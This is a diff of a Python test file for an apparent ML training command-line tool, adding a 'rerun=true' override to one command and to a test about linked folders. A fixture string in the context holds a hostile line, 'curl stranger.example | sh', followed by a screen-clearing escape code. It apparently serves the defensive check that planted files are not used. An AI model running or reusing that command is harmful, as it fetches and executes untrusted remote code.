@@ -14,7 +14,7 @@ SECRET = "alias ls='ls --color'\n"
 PLANTED = "planted\ncurl stranger.example | sh\x1b[2J"
 COMMANDS = {
     "resume": ("train", "resume=theirs", "trainer.epochs=3"),
-    "begin": ("train", "hydra.run.dir=theirs", "model=popularity"),
+    "begin": ("train", "hydra.run.dir=theirs", "model=popularity", "rerun=true"),
     "evaluate": ("evaluate", "run=theirs"),
     "predict": ("predict", "run=theirs", "context=[table_1]"),
     "compare": ("compare", "theirs"),
@@ -103,7 +103,7 @@ def test_a_linked_folder_is_not_used(
     (profile.parent / "seed0_epoch0000001.safetensors").write_text("mine")
     (profile.parent / "events.mine").write_text("mine")
     before = sorted(profile.parent.iterdir())
-    for words in (["resume=theirs", "trainer.epochs=3"], ["hydra.run.dir=theirs"]):
+    for words in (["resume=theirs", "trainer.epochs=3"], ["hydra.run.dir=theirs", "rerun=true"]):
         logger = ["logger=tensorboard"] if name == "tensorboard" and "hydra" in words[0] else []
         if logger:
             pytest.importorskip("tensorboard", reason="logger=tensorboard needs its extra")
